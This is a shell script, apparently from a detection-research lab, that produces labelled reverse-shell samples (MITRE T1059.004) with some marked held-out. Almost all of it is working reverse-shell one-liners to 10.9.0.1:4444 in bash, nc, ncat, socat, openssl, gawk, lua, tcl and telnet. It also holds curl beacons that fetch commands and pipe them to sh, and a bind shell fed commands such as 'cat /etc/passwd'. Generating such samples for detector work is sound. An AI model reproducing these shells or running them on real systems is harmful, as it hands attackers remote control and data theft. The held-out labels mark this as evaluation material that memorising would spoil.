# A shell whose other end is somebody else's, by whatever the host has.
behaviour reverse-shell T1059.004
each() { local j=$1 l=$2; shift 2; job "$j" "$l" "$@"; eval "beside_$j() { exec python3 /lab/src/c2.py 4444 \"\$(pick .4 1 1 2 4)\"; }"; }
each shell_bash_tcp shell;       shell_bash_tcp() { bash -i >& /dev/tcp/10.9.0.1/4444 0>&1; }
each shell_bash_exec shell;      shell_bash_exec() { exec 5<>/dev/tcp/10.9.0.1/4444; while read -r l <&5; do eval "$l" 2>&5 >&5; done; }
each shell_sh_196 shell;         shell_sh_196() { exec 196<>/dev/tcp/10.9.0.1/4444; sh <&196 >&196 2>&196; }
each shell_python_pty python;    shell_python_pty() { exec "$(as python3)" /lab/src/bad.py shell 4444 pty; }
each shell_python_dup python;    shell_python_dup() { exec "$(as python3)" /lab/src/bad.py shell 4444 dup; }
each shell_python_run python held-out; shell_python_run() { exec "$(as python3)" /lab/src/bad.py shell 4444 run; }
each shell_perl_exec perl;       shell_perl_exec() { exec "$(as perl)" /lab/src/bad.pl shell 4444 exec; }
each shell_perl_loop perl;       shell_perl_loop() { exec "$(as perl)" /lab/src/bad.pl shell 4444 loop; }
each shell_php php;              shell_php() { exec "$(as php)" /lab/src/bad.php shell 4444 proc; }
each shell_php_loop php;         shell_php_loop() { exec "$(as php)" /lab/src/bad.php shell 4444 loop; }
each shell_ruby ruby held-out;   shell_ruby() { exec "$(as ruby)" /lab/src/bad.rb shell 4444 spawn; }
each shell_ruby_loop ruby held-out; shell_ruby_loop() { exec "$(as ruby)" /lab/src/bad.rb shell 4444 loop; }
each shell_node node;            shell_node() { exec "$(as node)" /lab/src/bad.js shell 4444 pipe; }
each shell_node_exec node;       shell_node_exec() { exec "$(as node)" /lab/src/bad.js shell 4444 exec; }
each shell_nc_fifo shell;        shell_nc_fifo() { mkfifo f; cat f | /bin/sh -i 2>&1 | nc 10.9.0.1 4444 > f; }
each shell_nc_e shell;           shell_nc_e() { exec "$(as nc.traditional)" -e /bin/sh 10.9.0.1 4444; }
each shell_ncat shell held-out;  shell_ncat() { exec "$(as ncat)" 10.9.0.1 4444 -e /bin/bash; }
each shell_socat_pty shell;      shell_socat_pty() { exec "$(as socat)" exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:10.9.0.1:4444; }
each shell_socat shell;          shell_socat() { exec "$(as socat)" TCP:10.9.0.1:4444 EXEC:/bin/sh; }
each shell_c c;                  shell_c() { exec "$(bin misc)" shell 4444; }
each shell_go go;                shell_go() { exec "$(bin bad-go)" shell 4444 "$(pick 0 1)"; }
each shell_rust rust held-out;   shell_rust() { exec "$(bin bad-rs)" shell 4444; }
each shell_java java;            shell_java() { exec "$(as java)" -cp /lab/java Bad shell 4444; }
each shell_lua lua held-out;     shell_lua() { exec "$(as lua5.4)" -e 'local s=require("socket").tcp(); s:connect("10.9.0.1",4444); while true do local l=s:receive(); if not l then break end; local p=io.popen(l.." 2>&1"); s:send(p:read("a")); p:close() end'; }
each shell_gawk shell;           shell_gawk() { exec "$(as gawk)" 'BEGIN{s="/inet/tcp/0/10.9.0.1/4444";while((s|&getline c)>0){while((c|getline o)>0)print o|&s;close(c)}}'; }
each shell_telnet shell held-out; shell_telnet() { mkfifo f; telnet 10.9.0.1 4444 0<f | /bin/sh 1>f 2>&1; }
each shell_tcl tcl;              shell_tcl() { echo 'set s [socket 10.9.0.1 4444]; while {[gets $s l]>=0} { catch {exec sh -c $l} o; puts $s $o; flush $s }' >s.tcl; exec "$(as tclsh)" s.tcl; }
job shell_openssl shell
beside_shell_openssl() { openssl req -x509 -newkey rsa:2048 -nodes -days 9 -subj /CN=x -keyout k -out c 2>/dev/null; cat k c > kc; exec python3 /lab/src/c2.py 4444 "$(pick .5 1 3)" kc; }
shell_openssl() { mkfifo f; sleep 2; /bin/sh -i < f 2>&1 | openssl s_client -quiet -connect 10.9.0.1:4444 > f; }
# Orders fetched by HTTP instead of a standing connection.
job shell_curl_beacon shell; beside_shell_curl_beacon() { exec python3 /lab/src/orders.py 4444; }; shell_curl_beacon() { local p; p=$(pick 200 700 2000); while :; do curl -s http://10.9.0.1:4444/task | sh 2>&1 | curl -s --data-binary @- http://10.9.0.1:4444/out; nap "$p"; done; }
job shell_python_beacon python; beside_shell_python_beacon() { exec python3 /lab/src/orders.py 4444; }; shell_python_beacon() { exec "$(as python3)" /lab/src/bad.py beacon 4444 "$(pick .4 1 3)"; }
job shell_bind_socat shell held-out; shell_bind_socat() { socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/sh,pty,stderr; }; beside_shell_bind_socat() { sleep 3; while :; do (for i in {1..30}; do echo "$(pick id 'ls -la /etc' 'ps aux' 'cat /etc/passwd' 'uname -a' 'find /usr -perm -4000' 'df')"; sleep "$(pick .3 1 2)"; done) | nc 127.0.0.1 4444; done; }
